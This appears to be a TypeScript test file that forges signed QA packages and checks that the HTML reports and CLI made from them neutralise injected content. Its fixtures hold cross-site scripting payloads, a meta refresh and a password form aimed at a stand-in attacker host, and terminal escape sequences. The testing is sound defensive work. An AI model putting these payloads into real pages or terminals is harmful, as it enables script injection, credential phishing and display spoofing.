import crypto from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { actorFor } from '../../mcp/imports/actor.js';
import { exportBatchPackage } from '../../mcp/qa/export-batch-package.js';
import { exportQaPackage } from '../../mcp/qa/export-package.js';
import { openQaPackage } from '../../mcp/qa/open-package.js';
import { exportSnapshot } from '../../mcp/snapshots/export-snapshot.js';
import { privateKeyFromSeed } from '../../mcp/util/ed25519.js';
import { chromiumAvailable } from '../helpers/system.js';
import { launchChromium } from '../helpers/chromium.js';
import { runCli } from '../helpers/cli.js';
import { csvText, EXEMPTION_HEADER, exemptionRow, openImportEngine, type ImportTestEngine } from '../helpers/import-fixtures.js';
import { forgePackage, packageLines, writePackageLines } from '../helpers/qa-forgery.js';
import { serverEnv } from '../helpers/temp-home.js';

/**
 * A package edited in transit and signed again under the forger's own key opens on a reviewer's
 * workstation (as "not verified as the office's"): whatever its fields say, the reports it
 * produces must not run script, navigate or show a form, and the terminal must get no escapes.
 */
const INJECTED = [
  `<script>document.title='PWNED';window.__pwned=1</script>`,
  `<img src=x onerror="window.__pwned=2">`,
  `<meta http-equiv="refresh" content="0;url=https://attacker.invalid/">`,
  `<form action="https://attacker.invalid/"><input type="password" name="pw" placeholder="Password"></form>`,
].join('');
const TERMINAL = '\u001b]0;owned\u0007\u001b[2J\u001b[31m\u009b1mred\u202eevil';

let t: ImportTestEngine;
let dir: string;
let forgedBatch: string;
let forgedDiff: string;
const forger = privateKeyFromSeed(crypto.randomBytes(32));

beforeAll(async () => {
  t = await openImportEngine(150);
  dir = path.join(t.dir, 'reports');
  fs.mkdirSync(dir);
  const cli = actorFor('cli');

  // A validated batch, packaged, with every field the report prints replaced by markup.
  const owners = await t.demo<{ prop_id: number; owner_id: number }>(
    `SELECT o.prop_id, o.owner_id FROM owner o JOIN property p ON p.prop_id = o.prop_id
      WHERE o.owner_tax_yr = 2026 AND p.prop_type_cd = 'R'
        AND NOT EXISTS (SELECT 1 FROM property_exemption pe WHERE pe.prop_id = o.prop_id AND pe.owner_id = o.owner_id AND pe.exmpt_tax_yr = 2026)
        AND NOT EXISTS (SELECT 1 FROM property_val v WHERE v.prop_val_yr = 2026 AND v.prop_id = o.prop_id AND (v.prop_inactive_dt IS NOT NULL OR v.udi_parent IS NOT NULL))
      ORDER BY o.prop_id LIMIT 2`,
  );
  const rows = [...owners.map((o) => exemptionRow({ prop: o.prop_id, owner: o.owner_id, code: 'EX' })), exemptionRow({ prop: 99_999, owner: 1, code: 'EX' })];
  const staged = await t.engine.imports.stage({ kind: 'exemptions', file_content: csvText(EXEMPTION_HEADER, rows), file_name: 'upload.csv' }, cli);
  await t.engine.imports.validate({ batchId: staged.batch_id }, cli);
  const batchPkg = await exportBatchPackage(t.engine, { batchId: staged.batch_id, out: dir }, cli);
  forgedBatch = path.join(dir, 'forged-batch.pacsqa');
  writePackageLines(
    forgedBatch,
    forgePackage(
      packageLines(batchPkg.file).map((line) => {
        if (line.startsWith('{"section":"batch",')) {
          const begin = JSON.parse(line);
          Object.assign(begin.batch, { staged_count: INJECTED, valid_count: INJECTED, error_row_count: INJECTED, file_name: `${INJECTED}${TERMINAL}`, kind: `exemptions${TERMINAL}` });
          return JSON.stringify(begin);
        }
        if (line.startsWith('{"line":') && line.includes('"values"')) {
          const row = JSON.parse(line);
          return JSON.stringify({ ...row, line: INJECTED, prop_id: INJECTED, values: { ...row.values, applicant_nm: INJECTED } });
        }
        if (line.startsWith('{"line":') && line.includes('"message"')) return JSON.stringify({ ...JSON.parse(line), line: INJECTED, code: `${INJECTED}${TERMINAL}`, message: `${INJECTED}${TERMINAL}` });
        return line;
      }),
      { signer: forger },
    ),
  );

  // A snapshot pair, packaged, with the diff's numbers, keys and summary replaced by markup.
  const take = async (name: string) => (await exportSnapshot(t.engine, { name, content: 'parcel_timeline', maskingPolicy: 'qa', selection: { query: 'SELECT prop_id FROM property WHERE prop_id % 7 = 0' } })).snapshot;
  const before = await take('before');
  await t.demo('SELECT 1');
  const { SqliteDb } = await import('../../mcp/store/sqlite-db.js');
  const demo = await SqliteDb.open(t.demoFile);
  await demo.run('UPDATE property_val SET market = market * 3 WHERE prop_id % 14 = 0');
  await demo.close();
  const after = await take('after');
  const diffPkg = await exportQaPackage(t.engine, { baseSnapshotId: before.snapshot_id, targetSnapshotId: after.snapshot_id, out: dir });
  forgedDiff = path.join(dir, 'forged-diff.pacsqa');
  writePackageLines(
    forgedDiff,
    forgePackage(
      packageLines(diffPkg.file).map((line) => {
        if (line.startsWith('{"change":"changed"')) {
          const change = JSON.parse(line);
          change.prop_id = INJECTED;
          change.year = INJECTED;
          change.fields = change.fields.map((f: Record<string, unknown>) => ({ ...f, new: INJECTED, delta: INJECTED, pct_change: INJECTED }));
          return JSON.stringify(change);
        }
        if (line.startsWith('{"check":')) return JSON.stringify({ ...JSON.parse(line), prop_id: INJECTED, year: INJECTED, message: INJECTED });
        return line;
      }),
      {
        signer: forger,
        editManifest: (trailer) => {
          const diff = trailer.manifest.sections.find((s) => s.type === 'diff')!;
          diff.summary = { ...diff.summary, reported: INJECTED, summary: { added: INJECTED, removed: INJECTED, changed: INJECTED, unchanged: INJECTED } };
          const validations = trailer.manifest.sections.find((s) => s.type === 'validations')!;
          validations.summary = { ...validations.summary, counts: { [INJECTED]: INJECTED } };
        },
      },
    ),
  );
});
afterAll(() => t?.close());

/** Loads a report and returns what an injected field could have done there. */
async function whatTheReportDid(page: Page, file: string) {
  const url = pathToFileURL(file).href;
  const navigations: string[] = [];
  const requests: string[] = [];
  const dialogs: string[] = [];
  page.on('framenavigated', (frame) => frame === page.mainFrame() && navigations.push(frame.url()));
  page.on('request', (request) => requests.push(request.url()));
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await page.goto(url);
  // Longer than the injected refresh (0 s) and any onerror needs.
  await page.waitForTimeout(1_500);
  return {
    url: page.url(),
    navigations,
    otherRequests: requests.filter((r) => r !== url),
    dialogs,
    pwned: await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned ?? null),
    title: await page.title(),
    injectedElements: await page.locator('script, form, input, img, iframe, object, embed, meta[http-equiv="refresh" i]').count(),
    policy: await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content'),
    styled: await page.locator('table').first().evaluate((e) => getComputedStyle(e).borderCollapse),
    text: await page.locator('body').innerText(),
  };
}

describe.runIf(chromiumAvailable())('reports of a forged package, in Chromium', () => {
  it('the batch report shows the injected markup as text: no script runs, no navigation, no form, under a strict policy', async () => {
    const report = path.join(dir, 'batch-report.html');
    const review = await openQaPackage(forgedBatch, { htmlReport: report });
    expect(review.origin_confirmed).toBe(false);
    const browser = await launchChromium();
    try {
      const did = await whatTheReportDid(await browser.context.newPage(), report);
      expect(did).toMatchObject({ url: pathToFileURL(report).href, otherRequests: [], dialogs: [], pwned: null, injectedElements: 0, styled: 'collapse' });
      expect(did.navigations).toEqual([pathToFileURL(report).href]);
      expect(did.title).not.toContain('PWNED');
      expect(did.policy).toMatch(/^default-src 'none'; style-src 'sha256-[A-Za-z0-9+/=]+'; base-uri 'none'; form-action 'none'$/);
      expect(did.text).toContain('<script>document.title=');
      expect(did.text).toContain('<input type="password"');
    } finally {
      await browser.close();
    }
  });

  it('the diff report (numbers, keys and summary from the package) likewise', async () => {
    const report = path.join(dir, 'diff-report.html');
    await openQaPackage(forgedDiff, { htmlReport: report });
    const browser = await launchChromium();
    try {
      const did = await whatTheReportDid(await browser.context.newPage(), report);
      expect(did).toMatchObject({ url: pathToFileURL(report).href, otherRequests: [], dialogs: [], pwned: null, injectedElements: 0, styled: 'collapse' });
      expect(did.navigations).toEqual([pathToFileURL(report).href]);
      expect(did.policy).toMatch(/^default-src 'none'/);
      expect(did.text).toContain('<meta http-equiv="refresh"');
    } finally {
      await browser.close();
    }
  });
});

describe('the reviewer CLI and a forged package', () => {
  it('prints the package\'s text without control characters or escape sequences', async () => {
    const reviewerEnv = serverEnv(path.join(dir, 'reviewer-no-data-dir'));
    for (const file of [forgedBatch, forgedDiff]) {
      const opened = await runCli(['qa', 'open-package', file, '--limit', '5'], reviewerEnv);
      expect(opened.code, opened.stderr).toBe(0);
      expect(opened.stdout).toMatch(/NOT verified as the office's/);
      expect(opened.stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e]/);
    }
    const batch = await runCli(['qa', 'open-package', forgedBatch], reviewerEnv);
    expect(batch.stdout).toContain(']0;owned');
    expect(batch.stdout).toContain('[2J');
  });
});
